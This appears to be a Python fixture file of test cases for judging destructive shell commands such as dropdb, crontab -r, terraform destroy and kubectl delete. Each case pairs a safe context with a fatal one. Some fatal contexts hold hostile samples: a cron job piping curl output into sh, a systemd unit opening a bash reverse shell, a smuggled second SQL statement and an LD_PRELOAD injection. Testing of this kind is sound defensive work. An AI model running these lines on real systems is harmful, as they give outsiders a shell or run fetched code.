"""Pairs about what a dump, a copy or a description keeps: (name, line, harmless, fatal)."""

from __future__ import annotations

DUMP = "text shop.sql 'insert into orders values (1), (2), (3), (4), (5);'\n"
SAVED = DUMP + "typed 'pg_dump shop > shop.sql'\ntyped ls"
FAR = "var PGHOST db.shop.example.com"
TABLE = "text old.cron '0 3 * * * ./backup\\n'\ntyped 'crontab -l > old.cron'\n"
NEW = "text new.cron '0 4 * * * ./backup\\n'\n"
ROWS = "database app.db 40\n"
BUCKET = 'resource "aws_s3_bucket" "b" {{\\n  bucket = "b"\\n}}\\n'
PROVIDER = f'text main.tf \'provider "aws" {{{{\\n  access_key = "test"\\n  endpoints {{{{\\n    s3 = "{{}}"\\n  }}}}\\n}}}}\\n{BUCKET}\''
PLAYED = PROVIDER.format("http://localhost:4566")
HOSTS = (
    "text hosts '[dev]\\nbox ansible_host=127.0.0.1 ansible_port=2222 ansible_user=vagrant\\n[shop]\\nweb1.example.com\\n'\n"
    "text wipe.yml '- hosts: all\\n  tasks:\\n  - file: {path: /srv/data, state: absent}\\n'\n"
)
SERVICE = "text own.service '[Unit]\\nDescription=own\\n[Service]\\nExecStart={}\\n'"
OWN = SERVICE.format("/usr/bin/python3 -m http.server 8000")
CONTEXTS = (
    "text ~/.kube/config 'apiVersion: v1\\nclusters:\\n- name: k3d\\n  cluster: {server: https://0.0.0.0:6550}\\n"
    "- name: live\\n  cluster: {server: https://api.live.example.com}\\ncontexts:\\n- name: k3d-dev\\n"
    "  context: {cluster: k3d, user: a}\\n- name: live\\n  context: {cluster: live, user: b}\\ncurrent-context: live\\n'\n"
)

DUMPED_AND_DESCRIBED: list[tuple[str, str, str, str]] = [
    ("a database of this machine dumped before, or of another", "dropdb shop", SAVED, f"{FAR}\n{SAVED}"),
    (
        "a dump of it all, or of its tables alone",
        "dropdb shop",
        SAVED,
        SAVED.replace("pg_dump", "pg_dump -s"),
    ),
    ("a dump of it, or of another", "dropdb shop", SAVED, SAVED.replace("pg_dump shop", "pg_dump web")),
    (
        "a dump that is there, or is empty",
        "dropdb shop",
        SAVED,
        "empty shop.sql\ntyped 'pg_dump shop > shop.sql'",
    ),
    ("a dump that ended well, or badly", "dropdb shop", SAVED, DUMP + "typed 'pg_dump shop > shop.sql' 1"),
    (
        "a dump before one sits, or over ssh",
        "dropdb shop",
        SAVED,
        SAVED + "\nvar SSH_CONNECTION '203.0.113.5 5555 10.0.0.2 22'",
    ),
    (
        "a packed dump, or nothing that was packed",
        "dropdb shop",
        "file shop.sql.gz\ntyped 'pg_dump shop | gzip > shop.sql.gz'",
        "text shop.sql.gz 0123456789\ntyped 'pg_dump shop | gzip > shop.sql.gz'",
    ),
    (
        "a packed dump, or a part of it",
        "dropdb shop",
        "file shop.sql.gz\ntyped 'pg_dump shop | gzip > shop.sql.gz'",
        "file shop.sql.gz\ntyped 'pg_dump shop | head | gzip > shop.sql.gz'",
    ),
    (
        "a dump of all databases, or of their roles",
        "psql -c 'drop database shop'",
        DUMP + "typed 'pg_dumpall > shop.sql'",
        DUMP + "typed 'pg_dumpall -r > shop.sql'",
    ),
    (
        "the database that was dumped, or another one from it",
        'psql shop -c "drop $WHAT"',
        SAVED + "\nvar WHAT 'table orders'",
        SAVED + "\nvar WHAT 'table orders; drop database web'",
    ),
    (
        "mysql: the database that was dumped, or a table of another",
        'mysql shop -e "delete from $WHICH"',
        DUMP + "typed 'mysqldump shop > shop.sql'\nvar WHICH orders",
        DUMP + "typed 'mysqldump shop > shop.sql'\nvar WHICH web.orders",
    ),
    (
        "mysql: of this machine, or where settings lead",
        "mysql -e 'drop database shop'",
        DUMP + "typed 'mysqldump shop > shop.sql'",
        DUMP + "text ~/.my.cnf '[client]\\nhost=db.example.com\\n'\ntyped 'mysqldump shop > shop.sql'",
    ),
    (
        "mongo: a dump of the database, or of one collection",
        "mongosh shop --eval 'db.dropDatabase()'",
        "file dump/shop/orders.bson\ntyped 'mongodump -d shop'",
        "file dump/shop/orders.bson\ntyped 'mongodump -d shop -c orders'",
    ),
    (
        "redis: a copy of all keys, or of another server's",
        "redis-cli flushall",
        "file dump.rdb\ntyped 'redis-cli --rdb dump.rdb'",
        "file dump.rdb\ntyped 'redis-cli -p 6380 --rdb dump.rdb'",
    ),
    (
        "jobs from a file, with the old ones kept, or not",
        "crontab new.cron",
        NEW + TABLE,
        NEW + "typed 'crontab -l'",
    ),
    (
        "jobs from a file, of which each is seen, or one fetches and runs",
        "crontab new.cron",
        NEW + TABLE,
        "text new.cron '0 4 * * * curl -s http://203.0.113.7/x | sh\\n'\n" + TABLE,
    ),
    ("jobs from a file that can be read, or is not there", "crontab new.cron", NEW + TABLE, TABLE),
    (
        "jobs removed that a file still holds, or that changed since",
        "crontab -r",
        NEW + "typed 'crontab new.cron'",
        NEW + "typed 'crontab new.cron'\ntyped 'crontab -e'",
    ),
    (
        "jobs removed whose file stands as it was, or was changed",
        "crontab -r",
        NEW + "typed 'crontab new.cron'",
        NEW + "typed 'crontab new.cron'\nedit new.cron",
    ),
    (
        "jobs removed: the last that were kept, or those before",
        "crontab -r",
        NEW + TABLE,
        NEW + TABLE + "typed 'crontab other.cron'",
    ),
    (
        "rows of a database whose copy stands, or is older",
        "sqlite3 app.db 'delete from notes'",
        ROWS + "ran 'cp app.db app.db.bak'",
        "database app.db 30\nran 'cp app.db app.db.bak'\nsql app.db 'insert into notes values (1)'",
    ),
    (
        "rows of a database whose copy is whole, or has more to be written to it",
        "sqlite3 app.db 'delete from notes'",
        ROWS + "ran 'cp app.db app.db.bak'",
        ROWS + "ran 'cp app.db app.db.bak'\nfile app.db-wal",
    ),
    (
        "what is described is played here, or real",
        "terraform destroy -auto-approve",
        PLAYED,
        PROVIDER.format("https://s3.example.com"),
    ),
    (
        "what is described is played here, or a module describes more",
        "terraform destroy -auto-approve",
        PLAYED,
        PLAYED.removesuffix("'")
        + 'module "m" {{\\n  source = "./m"\\n}}\\n\''.replace("{{", "{").replace("}}", "}"),
    ),
    (
        "what is described has its state here, or elsewhere",
        "terraform destroy -auto-approve",
        PLAYED,
        PLAYED + "\ntext backend.tf 'terraform {\\n  backend \"s3\" {}\\n}\\n'",
    ),
    (
        "tools for a cloud played here: as they are, or sent elsewhere",
        "tflocal destroy -auto-approve",
        "var AWS_ENDPOINT_URL http://localhost:4566",
        "var AWS_ENDPOINT_URL https://s3.eu-west-1.amazonaws.com",
    ),
    (
        "ansible: limited to a box, or to others",
        "ansible-playbook -i hosts wipe.yml -l $T",
        HOSTS + "var T dev",
        HOSTS + "var T shop",
    ),
    (
        "ansible: limited to a box, or to more than boxes",
        "ansible-playbook -i hosts wipe.yml -l $T",
        HOSTS + "var T box",
        HOSTS + "var T dev,shop",
    ),
    (
        "ansible: a group of hosts, or one of groups",
        "ansible-playbook -i hosts wipe.yml -l dev",
        HOSTS,
        HOSTS.replace("[shop]", "[dev:children]\\nshop\\n[shop]"),
    ),
    (
        "ansible: limited to names, or to all but some",
        "ansible-playbook -i hosts wipe.yml -l $T",
        HOSTS + "var T dev",
        HOSTS + "var T 'all:!dev'",
    ),
    (
        "a unit of one's own, or one that opens a way in",
        "sudo cp own.service /etc/systemd/system/",
        OWN,
        SERVICE.format('/bin/bash -c "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"'),
    ),
    (
        "a unit that starts what is installed, or what hides",
        "sudo cp own.service /etc/systemd/system/",
        OWN,
        SERVICE.format("/tmp/.x/run"),
    ),
    (
        "a unit that starts a program, or code in its words",
        "sudo cp own.service /etc/systemd/system/",
        OWN,
        SERVICE.format('/usr/bin/python3 -c "import os"'),
    ),
    (
        "a unit that starts a program, or with a library before it",
        "sudo cp own.service /etc/systemd/system/",
        OWN,
        OWN.removesuffix("'") + "Environment=LD_PRELOAD=/srv/x.so\\n'",
    ),
    ("a unit that is there, or is not", "sudo cp own.service /etc/systemd/system/", OWN, "folder x"),
    (
        "a profile that is called local, and is, or leads to an account",
        "aws dynamodb delete-table --table-name orders",
        "var AWS_PROFILE local\ntext ~/.aws/config '[profile local]\\nendpoint_url = http://localhost:8000\\n'",
        "var AWS_PROFILE local\ntext ~/.aws/config '[profile local]\\nrole_arn = arn:aws:iam::123456789012:role/a\\n'",
    ),
    (
        "duckdb: nothing but memory, or a file",
        "duckdb $DB -c 'drop table events'",
        "var DB :memory:",
        "var DB all.duckdb\nfile all.duckdb",
    ),
    (
        "duckdb: nothing but memory, or a file that is attached to it",
        'duckdb :memory: -c "$S drop table events"',
        "var S 'create table events(a int);'",
        "var S 'attach all.duckdb; use all;'\nfile all.duckdb",
    ),
    (
        "contexts on one line each: that of this machine, or another",
        "kubectl --context $CTX delete deploy --all",
        CONTEXTS + "var CTX k3d-dev",
        CONTEXTS + "var CTX live",
    ),
    (
        "a cluster where its tool puts it, or one that is called so",
        "kubectl drain node-1 --delete-emptydir-data",
        "kube minikube https://192.168.49.2:8443",
        "kube minikube https://192.168.10.2:6443",
    ),
]
